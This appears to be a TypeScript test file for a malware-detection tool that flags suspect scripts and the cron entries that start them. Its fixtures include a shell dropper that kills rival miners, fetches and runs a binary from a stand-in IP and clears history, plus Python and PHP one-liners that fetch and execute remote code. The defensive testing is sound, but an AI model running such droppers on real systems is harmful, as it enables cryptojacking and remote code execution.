import assert from 'node:assert/strict'
import { test } from 'node:test'
import { autostartOf, fileOf } from '../../test/facts.ts'
import { intelWith } from '../../test/intel-with.ts'
import { type EntityId, entity } from '../core/entity.ts'
import { factsOf } from '../core/facts.ts'
import { autostartOfSuspectScript } from './autostart-of-suspect-script.ts'
import { scriptOfSuspect } from './script-of-suspect.ts'

const dropper = `#!/bin/sh
pkill -f xmrig; pkill -f kinsing; pkill -f minerd
cd /tmp && (curl -s http://203.0.113.5/k -o k || wget -q http://203.0.113.5/k -O k)
chmod +x k; ./k >/dev/null 2>&1 &
history -c
`
const installer = `#!/bin/bash
set -e
curl -fsSL https://get.example.com/install.sh | bash
curl -fsSLo /tmp/x.sh https://a.example/x.sh && bash /tmp/x.sh
`
const file = (path: string, head: string) => fileOf({ path, head, magic: 'script' })
const scripts = (path: string, head: string, leads: EntityId[] = []) => [
  ...scriptOfSuspect.detect(factsOf({ files: [file(path, head)] }), intelWith(), new Set(leads)),
]
const started = (command: string, head: string) => [
  ...autostartOfSuspectScript.detect(
    factsOf({ files: [file('/opt/a.sh', head)], autostarts: [autostartOf({ path: '/etc/cron.d/x', command })] }),
    intelWith(),
    new Set(),
  ),
]

test('hit: a dropper, a script that starts a miner, one that calls a suspect', () => {
  assert.equal(scripts('/opt/a.sh', dropper)[0]?.severity, 'high')
  assert.equal(scripts('/opt/a.sh', '#!/bin/sh\n./x -o stratum+tcp://h.example:1 -u w -p x\n')[0]?.signal, 'mining')
  assert.equal(scripts('/opt/a.sh', '#!/bin/sh\nexec /opt/k -B\n', [entity('file', '/opt/k')]).length, 1)
})

test('hit: droppers in Python and PHP where they lie oddly or start by themselves', () => {
  const python = '#!/usr/bin/python3\nimport os\nos.system("curl -fsSL http://203.0.113.5/x | bash; history -c")\n'
  assert.equal(scripts('/tmp/.x/a.py', python)[0]?.severity, 'high')
  assert.equal(started('/opt/a.sh', python).length, 0)
  assert.equal(scripts('/opt/a.py', python).length, 0)
  const php = '<?php eval(file_get_contents("http://203.0.113.5/x"));'
  assert.equal(scripts('/var/tmp/a.php', php)[0]?.severity, 'medium')
  assert.equal(scripts('/var/tmp/a.php', '<?php echo file_get_contents("https://api.example/x");').length, 0)
})

test('near miss: installers, clean-up scripts, other languages, documentation', () => {
  assert.equal(scripts('/root/install.sh', installer).length, 0)
  assert.equal(
    scripts('/root/clean.sh', '#!/bin/sh\npkill -f xmrig; pkill -f kinsing; pkill -f minerd; rm -rf /tmp/kdevtmpfsi\n').length,
    0,
  )
  assert.equal(scripts('/opt/a.py', dropper.replace('/bin/sh', '/usr/bin/python3')).length, 0)
  assert.equal(scripts('/usr/share/doc/x/a.sh', dropper).length, 0)
  assert.equal(scripts('/opt/a.sh', '#!/bin/sh\nexec /opt/k -B\n').length, 0)
})

test('an autostart entry is accused by the script it starts', () => {
  assert.deepEqual(started('sh /opt/a.sh', dropper)[0]?.about[1], 'file:/opt/a.sh')
  assert.equal(started('/opt/a.sh', dropper).length, 1)
  assert.equal(started('/opt/a.sh', installer).length, 0)
  assert.equal(started('/opt/b.sh', dropper).length, 0)
})
